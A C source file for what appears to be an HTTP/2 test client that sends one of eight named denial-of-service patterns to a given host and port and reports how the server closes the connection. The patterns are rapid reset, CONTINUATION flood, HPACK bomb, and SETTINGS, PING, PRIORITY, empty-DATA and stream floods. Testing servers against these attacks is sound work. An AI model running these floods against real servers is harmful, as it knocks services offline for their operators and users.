/* h2abuse.c: a test client that speaks just enough raw HTTP/2 to abuse a
 * server in one named way, then reports how the server ended the connection.
 * Usage: h2abuse HOST PORT ATTACK [COUNT [SECONDS]]. Prints "GOAWAY <code
 * name> last_stream=N" and exits 0 when a GOAWAY arrives; exits 1 on a close
 * without GOAWAY, 2 when nothing happens within SECONDS (10). */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { DATA = 0, HEADERS = 1, PRIORITY = 2, RST_STREAM = 3, SETTINGS = 4, PING = 6, GOAWAY = 7, CONTINUATION = 9 };
enum { F_END_STREAM = 1, F_END_HEADERS = 4 };

typedef struct {
    unsigned char *p;
    size_t len, cap;
} buf_t;

static void put(buf_t *b, const void *d, size_t n)
{
    if (b->len + n > b->cap) {
        b->cap = (b->len + n) * 2;
        b->p = realloc(b->p, b->cap);
        if (b->p == NULL) {
            perror("realloc");
            exit(3);
        }
    }
    memcpy(b->p + b->len, d, n);
    b->len += n;
}

static void frame(buf_t *b, int type, int flags, uint32_t sid, const void *payload, size_t n)
{
    unsigned char h[9] = {(unsigned char)(n >> 16), (unsigned char)(n >> 8), (unsigned char)n, (unsigned char)type,
                          (unsigned char)flags, (unsigned char)(sid >> 24), (unsigned char)(sid >> 16),
                          (unsigned char)(sid >> 8), (unsigned char)sid};
    put(b, h, 9);
    if (n > 0)
        put(b, payload, n);
}

/* HPACK: indexed :method (GET 0x82 or POST 0x83), :scheme http, :path /v1/models, :authority literal */
static size_t request_block(unsigned char *out, int post)
{
    size_t n = 0;
    out[n++] = post ? 0x83 : 0x82;
    out[n++] = 0x86;
    out[n++] = 0x04; /* :path, literal without indexing, name index 4 */
    out[n++] = 10;
    memcpy(out + n, "/v1/models", 10);
    n += 10;
    out[n++] = 0x01; /* :authority */
    out[n++] = 9;
    memcpy(out + n, "localhost", 9);
    n += 9;
    return n;
}

/* HPACK integer with an N-bit prefix */
static size_t hpack_int(unsigned char *out, unsigned char first, int bits, size_t v)
{
    size_t max = (1u << bits) - 1, n = 0;
    if (v < max) {
        out[n++] = (unsigned char)(first | v);
        return n;
    }
    out[n++] = (unsigned char)(first | max);
    v -= max;
    while (v >= 128) {
        out[n++] = (unsigned char)(0x80 | (v & 0x7f));
        v >>= 7;
    }
    out[n++] = (unsigned char)v;
    return n;
}

static int build(buf_t *b, const char *attack, long count)
{
    static const char preface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
    unsigned char blk[16384];
    put(b, preface, sizeof(preface) - 1);
    frame(b, SETTINGS, 0, 0, NULL, 0);
    if (strcmp(attack, "rapid-reset") == 0) {
        /* open a stream and cancel it at once, over and over */
        size_t n = request_block(blk, 0);
        static const unsigned char cancel[4] = {0, 0, 0, 8};
        for (long i = 0; i < count; i++) {
            frame(b, HEADERS, F_END_HEADERS | F_END_STREAM, (uint32_t)(2 * i + 1), blk, n);
            frame(b, RST_STREAM, 0, (uint32_t)(2 * i + 1), cancel, 4);
        }
    } else if (strcmp(attack, "continuation") == 0) {
        /* one header whose value never ends, one byte per CONTINUATION frame */
        size_t n = request_block(blk, 0);
        blk[n++] = 0x00;
        blk[n++] = 5;
        memcpy(blk + n, "x-big", 5);
        n += 5;
        n += hpack_int(blk + n, 0, 7, (size_t)count + 1000);
        frame(b, HEADERS, 0, 1, blk, n);
        for (long i = 0; i < count; i++)
            frame(b, CONTINUATION, 0, 1, "a", 1);
    } else if (strcmp(attack, "hpack-bomb") == 0) {
        /* a 4000-byte header put in the dynamic table once, then referenced by one byte each */
        size_t n = request_block(blk, 0);
        blk[n++] = 0x40;
        blk[n++] = 6;
        memcpy(blk + n, "x-bomb", 6);
        n += 6;
        n += hpack_int(blk + n, 0, 7, 4000);
        memset(blk + n, 'a', 4000);
        n += 4000;
        for (long i = 0; i < count && n < sizeof(blk); i++)
            blk[n++] = 0x80 | 62;
        frame(b, HEADERS, F_END_HEADERS | F_END_STREAM, 1, blk, n);
    } else if (strcmp(attack, "settings") == 0) {
        for (long i = 0; i < count; i++)
            frame(b, SETTINGS, 0, 0, NULL, 0);
    } else if (strcmp(attack, "ping") == 0) {
        for (long i = 0; i < count; i++)
            frame(b, PING, 0, 0, "12345678", 8);
    } else if (strcmp(attack, "priority") == 0) {
        static const unsigned char pri[5] = {0, 0, 0, 0, 15};
        for (long i = 0; i < count; i++)
            frame(b, PRIORITY, 0, (uint32_t)(2 * i + 1), pri, 5);
    } else if (strcmp(attack, "empty-data") == 0) {
        size_t n = request_block(blk, 1);
        frame(b, HEADERS, F_END_HEADERS, 1, blk, n);
        for (long i = 0; i < count; i++)
            frame(b, DATA, 0, 1, NULL, 0);
    } else if (strcmp(attack, "streams") == 0) {
        /* streams that stay open (a POST whose body never comes), far past the limit */
        size_t n = request_block(blk, 1);
        for (long i = 0; i < count; i++)
            frame(b, HEADERS, F_END_HEADERS, (uint32_t)(2 * i + 1), blk, n);
    } else {
        return -1;
    }
    return 0;
}

static const char *code_name(uint32_t c)
{
    static const char *names[] = {"NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR",
                                  "SETTINGS_TIMEOUT", "STREAM_CLOSED", "FRAME_SIZE_ERROR", "REFUSED_STREAM",
                                  "CANCEL", "COMPRESSION_ERROR", "CONNECT_ERROR", "ENHANCE_YOUR_CALM",
                                  "INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED"};
    return c < sizeof(names) / sizeof(names[0]) ? names[c] : "UNKNOWN";
}

static uint64_t now_ms(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (uint64_t)ts.tv_sec * 1000 + (uint64_t)ts.tv_nsec / 1000000;
}

int main(int argc, char **argv)
{
    if (argc < 4) {
        fprintf(stderr, "usage: h2abuse HOST PORT rapid-reset|continuation|hpack-bomb|settings|ping|priority|"
                        "empty-data|streams [COUNT [SECONDS]]\n");
        return 3;
    }
    long count = argc > 4 ? strtol(argv[4], NULL, 10) : 5000;
    long wait_s = argc > 5 ? strtol(argv[5], NULL, 10) : 10;
    static buf_t out; /* reachable until exit: the sanitizers count nothing lost */
    if (build(&out, argv[3], count) != 0) {
        fprintf(stderr, "h2abuse: unknown attack %s\n", argv[3]);
        return 3;
    }
    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(argv[2]))};
    if (inet_pton(AF_INET, argv[1], &sa.sin_addr) != 1) {
        fprintf(stderr, "h2abuse: bad address %s\n", argv[1]);
        return 3;
    }
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (fd < 0 || connect(fd, (struct sockaddr *)&sa, sizeof(sa)) != 0) {
        perror("h2abuse: connect");
        return 3;
    }
    fcntl(fd, F_SETFL, O_NONBLOCK);
    size_t sent = 0;
    unsigned char in[65536];
    size_t have = 0;
    unsigned long rst = 0, frames = 0;
    uint64_t deadline = now_ms() + (uint64_t)wait_s * 1000;
    while (now_ms() < deadline) {
        struct pollfd p = {fd, POLLIN | (sent < out.len ? POLLOUT : 0), 0};
        if (poll(&p, 1, 100) < 0)
            continue;
        if ((p.revents & POLLOUT) && sent < out.len) {
            ssize_t n = send(fd, out.p + sent, out.len - sent, MSG_NOSIGNAL);
            if (n > 0)
                sent += (size_t)n;
            else if (n < 0 && errno != EAGAIN)
                sent = out.len; /* the server stopped reading; what it said may still be readable */
        }
        if (p.revents & (POLLIN | POLLHUP | POLLERR)) {
            ssize_t n = recv(fd, in + have, sizeof(in) - have, 0);
            if (n == 0 || (n < 0 && errno != EAGAIN)) {
                printf("closed without GOAWAY (%s) after %lu frames, %lu RST_STREAM; sent %zu of %zu bytes\n",
                       n == 0 ? "EOF" : strerror(errno), frames, rst, sent, out.len);
                return 1;
            }
            if (n > 0)
                have += (size_t)n;
            size_t off = 0;
            while (have - off >= 9) {
                const unsigned char *h = in + off;
                size_t len = (size_t)h[0] << 16 | (size_t)h[1] << 8 | h[2];
                if (have - off < 9 + len)
                    break;
                frames++;
                if (h[3] == RST_STREAM)
                    rst++;
                if (h[3] == GOAWAY && len >= 8) {
                    uint32_t last = ((uint32_t)h[9] << 24 | (uint32_t)h[10] << 16 | (uint32_t)h[11] << 8 | h[12]) &
                                    0x7fffffffu;
                    uint32_t code = (uint32_t)h[13] << 24 | (uint32_t)h[14] << 16 | (uint32_t)h[15] << 8 | h[16];
                    printf("GOAWAY %s last_stream=%u after %lu frames, %lu RST_STREAM; sent %zu of %zu bytes",
                           code_name(code), last, frames, rst, sent, out.len);
                    if (len > 8)
                        printf(" (%.*s)", (int)(len - 8), (const char *)h + 17);
                    printf("\n");
                    return 0;
                }
                off += 9 + len;
            }
            memmove(in, in + off, have - off);
            have -= off;
            if (have == sizeof(in)) {
                fprintf(stderr, "h2abuse: frame larger than the input buffer\n");
                return 3;
            }
        }
    }
    printf("no GOAWAY within %ld s: %lu frames, %lu RST_STREAM; sent %zu of %zu bytes\n", wait_s, frames, rst, sent, out.len);
    return 2;
}
